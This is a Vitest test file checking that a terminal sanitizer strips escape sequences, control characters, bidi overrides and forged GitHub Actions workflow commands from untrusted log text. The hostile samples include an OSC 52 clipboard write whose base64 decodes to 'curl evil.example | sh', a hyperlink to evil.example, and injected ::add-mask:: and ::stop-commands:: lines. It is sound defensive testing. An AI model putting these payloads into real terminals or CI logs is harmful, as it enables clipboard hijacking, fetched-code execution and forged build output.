/**
 * sanitizeForTerminal against what a hostile instance could put in its log
 * or step name: terminal escapes and workflow commands.
 */
import { describe, expect, it } from 'vitest';
import { sanitizeForTerminal, stripControlCharacters } from '../../src/core/sanitize.js';

const ESC = '\u001b';
const BEL = '\u0007';
// C0 controls other than tab and newline, DEL, and the C1 range.
// eslint-disable-next-line no-control-regex -- looking for control characters is what this test does
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

/** Lines the Actions runner would run as a command: `::name` or the legacy `##[name`, after leading whitespace. */
const commandLines = (text: string): string[] => text.split('\n').filter((line) => /^\s*(::|##\[)/.test(line));

describe('sanitizeForTerminal', () => {
  it('leaves ordinary text alone, tabs, newlines and Unicode included', () => {
    const text = 'npm ERR! code ELIFECYCLE\n\tat step 3: ✅ grüße 日本語 🚀\nexit status 1';
    expect(sanitizeForTerminal(text)).toBe(text);
  });

  it('removes colours, cursor moves, screen clears and a lone ESC', () => {
    const text = `${ESC}[31mred${ESC}[0m ${ESC}[2J${ESC}[H${ESC}[1;1Hhome ${ESC}[?25lhidden ${ESC}(Bcharset ${ESC}7saved${ESC}8 ${ESC}`;
    expect(sanitizeForTerminal(text)).toBe('red home hidden charset saved ');
  });

  it('removes OSC strings: hyperlinks, window titles and clipboard writes, ended by BEL or ST', () => {
    const text = [
      `${ESC}]8;;https://evil.example${BEL}click${ESC}]8;;${BEL}`,
      `${ESC}]0;fake title${ESC}\\after`,
      `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}copied`,
    ].join('\n');
    expect(sanitizeForTerminal(text)).toBe('click\nafter\ncopied');
  });

  it('ends an unterminated OSC or DCS string at the end of its line, not of the log', () => {
    expect(sanitizeForTerminal(`before${ESC}]0;never ends\nnext line`)).toBe('before\nnext line');
    expect(sanitizeForTerminal(`${ESC}Pq#0;2;0;0;0\nkept`)).toBe('\nkept');
  });

  it('removes the 8-bit C1 forms (CSI 0x9B, OSC 0x9D) and every other C0/C1 control', () => {
    const text = `\u009b31mred\u009b0m \u009d0;title\u0007x \u0000nul\u0008bs\u007fdel\u0085nel\u000bvt\u000cff`;
    const clean = sanitizeForTerminal(text);
    expect(clean).toBe('red x nulbsdelnelvtff');
    expect(clean).not.toMatch(CONTROL);
  });

  it('turns CRLF into LF and drops a carriage return that would overwrite the line', () => {
    expect(sanitizeForTerminal('one\r\ntwo\rfake three')).toBe('one\ntwofake three');
  });

  it('drops bidi overrides that make a line read differently from what it says', () => {
    expect(sanitizeForTerminal('access\u202e\u2066 level\u2069\u202c ok')).toBe('access level ok');
  });

  it('keeps every workflow command from being one, but keeps it readable', () => {
    const text = [
      '::error::forged annotation',
      '::add-mask::hide-the-real-error',
      '::stop-commands::d1e2a3',
      '  ::warning file=a.ts,line=1::indented',
      '\t::set-output name=x::y',
      '##[error]legacy form',
      '::group::a',
      'ok :: not a command',
    ].join('\n');
    const clean = sanitizeForTerminal(text);
    expect(commandLines(clean)).toEqual([]);
    expect(clean.replaceAll('\u200b', '')).toBe(text);
  });

  it('neutralises a command that only appears once escapes or controls are gone', () => {
    const hidden = [
      `${ESC}[0m::error::after a colour reset`,
      ':\u0000:error::split by NUL',
      `\r::add-mask::after CR`,
      `\u009b0m##[warning]c1`,
    ];
    for (const line of hidden) expect(commandLines(sanitizeForTerminal(line)), JSON.stringify(line)).toEqual([]);
  });

  it('never leaves a control character or a command line, whatever the mix (seeded fuzz)', () => {
    const pieces = [
      ESC,
      '[',
      ']',
      '::',
      '##[',
      ':',
      '#',
      '\n',
      '\r',
      '\t',
      ' ',
      BEL,
      '\u009b',
      '\u009d',
      '\u0000',
      '\\',
      'a',
      '8;;',
      'm',
      'error',
    ];
    let seed = 12345;
    const next = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    for (let round = 0; round < 2000; round += 1) {
      const text = Array.from({ length: 1 + (next() % 24) }, () => pieces[next() % pieces.length]).join('');
      const clean = sanitizeForTerminal(text);
      expect(clean, JSON.stringify(text)).not.toMatch(CONTROL);
      expect(commandLines(clean), JSON.stringify(text)).toEqual([]);
    }
  });
});

describe('stripControlCharacters', () => {
  it('strips escapes and controls but leaves workflow commands (Markdown has no runner)', () => {
    expect(stripControlCharacters(`${ESC}[1m::error::x${ESC}[0m\u0000`)).toBe('::error::x');
  });
});
